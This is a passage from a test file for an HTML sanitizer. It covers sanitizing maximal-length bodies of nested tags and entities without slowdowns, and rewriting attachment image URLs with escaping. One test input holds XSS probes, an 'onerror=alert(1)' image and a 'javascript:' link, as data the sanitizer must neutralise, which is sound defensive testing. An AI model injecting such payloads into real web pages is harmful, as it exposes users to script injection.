    expect(paragraphs.match(/<p>/g)?.length).toBe(MAX_NESTING * 2);
  });

  // Each is a whole MAX_HTML_LENGTH body; before the nesting limit and the linear text
  // rendering, `<b>` took over two minutes and `&amp;` thirteen seconds. Timings are
  // printed by `npm run bench:html`, not asserted here; the suite timeout still
  // catches a return of the quadratic cases.
  it.each([
    ['plain chunks', '<p>Hello <b>world</b> <img src=x onerror=alert(1)> <a href="javascript:x">l</a></p>'],
    ['deep <b>', '<b>'],
    ['deep <div>', '<div>'],
    ['deep <svg>', '<svg>'],
    ['deep <pre>', '<pre>a\n'],
    ['rejected images', '<img src=x>'],
    ['attachment images', '<img src="cid:abc">'],
    ['rejected iframes', '<iframe src=x></iframe>'],
    ['entities', '&amp;'],
    ['open brackets', '<<<<'],
    ['paragraphs', '<p>x</p>'],
    ['unclosed list items', '<li>x'],
    ['mismatched ends', '<b>x</i>'],
    ['breaks', '<br>'],
  ])('sanitizes a maximal body of %s safely', (_name, chunk) => {
    const body = chunk.repeat(Math.floor(MAX_HTML_LENGTH / chunk.length));
    const { html } = sanitizeHtml(body);
    expectSafe(html.slice(0, 10_000));
  });
});

describe('mapAttachmentImages', () => {
  it("re-points the stored images of our attachments that `to` names, escaping the URL, and leaves the rest", () => {
    const stored = sanitizeHtml(
      '<p>a<img src="cid:QXR0YWNobWVudDox" alt="one"><img src="/attachments/QXR0YWNobWVudDoxMg"><img src="https://example.com/x.png"><a href="/attachments/QXR0YWNobWVudDox">link</a></p>',
    ).html;
    expect(stored).toBe('<p>a<img src="/attachments/QXR0YWNobWVudDox" alt="one" /><img src="/attachments/QXR0YWNobWVudDoxMg" /><a rel="noopener noreferrer nofollow" target="_blank" href="/attachments/QXR0YWNobWVudDox">link</a></p>');
    // "Attachment:1" is a prefix of "Attachment:12" in base64: only whole ids match
    const mapped = mapAttachmentImages(stored, (id) => (id === 'QXR0YWNobWVudDox' ? `${attachmentPath('QXR0YWNobWVudDo5')}?a=1&b="2"` : null));
    // only images: a link to the same attachment stays as it is
    expect(mapped).toBe('<p>a<img src="/attachments/QXR0YWNobWVudDo5?a=1&amp;b=&quot;2&quot;" alt="one" /><img src="/attachments/QXR0YWNobWVudDoxMg" /><a rel="noopener noreferrer nofollow" target="_blank" href="/attachments/QXR0YWNobWVudDox">link</a></p>');
    expect(mapAttachmentImages(stored, () => null)).toBe(stored);
  });
});
